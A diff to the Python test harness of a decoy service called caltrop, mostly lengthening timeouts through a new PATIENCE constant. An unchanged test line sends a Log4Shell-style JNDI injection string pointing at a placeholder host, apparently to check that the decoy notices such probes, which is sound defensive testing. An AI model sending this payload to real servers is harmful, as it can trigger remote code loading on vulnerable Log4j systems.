@@ -15,17 +15,18 @@ import unittest
 
 CALTROP = os.path.abspath(sys.argv[1])
 SKIP = 77
+PATIENCE = 120  # seconds until a test gives up: nothing waits for so long where all is well, and machines differ
 
 
 def run(*command, check=True, **options):
-    done = subprocess.run([str(c) for c in command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, timeout=120,
+    done = subprocess.run([str(c) for c in command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, timeout=4 * PATIENCE,
                           check=False, text=True, errors="replace", **options)
     if check and done.returncode:
         raise AssertionError(f"{command}: {done.returncode}: {done.stdout[-2000:]}")
     return done.stdout
 
 
-def until(what, condition, seconds=30):
+def until(what, condition, seconds=PATIENCE):
     """Waits for a condition, never for a time; the seconds are when it is given up."""
     end = time.monotonic() + seconds
     while time.monotonic() < end:
@@ -139,7 +140,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.bind((source, 0))
 s.sendto(b"${jndi:ldap://mark.example/" + source.encode() + b"}", ("10.9.0.1", 9))
 try:
-    with socket.create_connection(("10.9.0.1", 8080), 5, (source, 0)) as c:
+    with socket.create_connection(("10.9.0.1", 8080), 20, (source, 0)) as c:
         c.sendall(b"GET /mark HTTP/1.0\\r\\n\\r\\n")
         while c.recv(65536): pass
 except OSError as e:
@@ -181,7 +182,7 @@ class Decoy:
         return self
 
     def counts(self):
-        page = self.network.on(self.network.host, "curl", "-s", "-m", "5", f"http://127.0.0.1:{self.METRICS}/metrics")
+        page = self.network.on(self.network.host, "curl", "-s", "-m", "60", f"http://127.0.0.1:{self.METRICS}/metrics")
         return {name: int(value) for name, value in re.findall(r"^caltrop_decoy_(\w+) (\d+)$", page, re.M)}
 
     def quiet(self):
@@ -204,7 +205,7 @@ class Decoy:
     def stop(self, status=0):
         if self.process.poll() is None:
             self.process.send_signal(signal.SIGTERM)
-        got = self.process.wait(30)
+        got = self.process.wait(PATIENCE)
         self.out.close()
         self.err.close()
         if status is not None and (got != status or ("died" in self.said() and not self.may_die)):
@@ -248,7 +249,7 @@ class DecoyCase(unittest.TestCase):
         until(f"a listener on {port}", lambda: f":{port} " in self.network.on(name, "ss", "-Hltn"))
         return process
 
-    def says(self, name, host, port, send=b"", timeout=3):
+    def says(self, name, host, port, send=b"", timeout=30):
         """What a port says to one who connects: bytes, or the name of the failure."""
         code = ("import socket,sys\ntry:\n s=socket.create_connection((%r,%d),%d)\n s.sendall(%r)\n s.shutdown(1)\n d=b''\n"
                 " while True:\n  p=s.recv(4096)\n  if not p: break\n  d+=p\n sys.stdout.buffer.write(b'+'+d)\n"
@@ -282,4 +283,4 @@ def main():
     unittest.main(verbosity=1)
 
 
-__all__ = ["CALTROP", "Decoy", "DecoyCase", "Network", "ldap_search", "main", "need_root", "ports_of", "run", "socket", "until"]
+__all__ = ["CALTROP", "Decoy", "DecoyCase", "PATIENCE", "Network", "ldap_search", "main", "need_root", "ports_of", "run", "socket", "until"]
